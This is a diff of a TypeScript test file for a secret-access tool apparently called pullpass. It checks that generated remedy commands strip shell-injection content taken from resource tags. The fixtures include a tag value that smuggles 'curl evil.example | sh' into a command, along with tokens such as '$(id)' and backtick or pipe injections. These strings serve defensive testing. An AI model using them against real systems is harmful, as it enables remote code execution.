@@ -5,7 +5,7 @@ import { rules } from "../../packages/core/src/diagnose/rules/index.ts";
 import { ruleIds } from "../../packages/core/src/model/finding.ts";
 import { remedyText } from "../../packages/core/src/notice/remedy-text.ts";
 import { examples, planOf } from "./examples.ts";
-import { given, planFor, project, secret } from "./support.ts";
+import { given, planFor, project, secret, secretArn } from "./support.ts";
 
 test.each(Object.entries(examples))(
   "%s is found, alone, and its subject counts as examined where it was",
@@ -30,9 +30,21 @@ test("a finding never shows the value of a plaintext variable", () => {
 test("a command in a remedy repeats nothing from a tag that a shell would run", () => {
   const tags = { "pullpass/projects": "api '; curl evil.example | sh #" };
   const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
-  expect(remedyText(planFor(world).findings[0]?.remedy ?? [])).toMatch(
-    / --tags '\[\{"Key":"pullpass\/projects","Value":"api curl evil\.example sh web"\}\]'$/,
-  );
+  const text = remedyText(planFor(world).findings[0]?.remedy ?? []);
+  expect(text).toContain(`pullpass allow ${secretArn("registry/hub")} web `);
+  expect(text).not.toContain("evil");
+});
+
+test("several projects of a role that wait for one secret have one remedy", () => {
+  const projects = ["web", "api", "shop"].map((name) => project(name));
+  const world = given({
+    projects,
+    secrets: [secret("registry/hub", { tags: { "pullpass/projects": "shop" } })],
+  });
+  const remedies = planFor(world).findings.map(({ remedy }) => remedyText(remedy));
+  expect(remedies).toHaveLength(2);
+  expect(new Set(remedies).size).toBe(1);
+  expect(remedies[0]).toContain(`pullpass allow ${secretArn("registry/hub")} api web `);
 });
 
 test("no remedy names the project all, which would let every project in", () => {
@@ -57,7 +69,9 @@ test.each(["$(id)x", "x$(id)", "`id`", "x;id", "x|id", "x'", "ü", "x\u202ey", "
   (token) => {
     const tags = { "pullpass/projects": `api  ${token}` };
     const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
-    expect(remedyText(planFor(world).findings[0]?.remedy ?? [])).toContain('"Value":"api web"}');
+    const text = remedyText(planFor(world).findings[0]?.remedy ?? []);
+    expect(text).toContain(`pullpass allow ${secretArn("registry/hub")} web `);
+    expect(text).not.toContain(token);
   },
 );
 
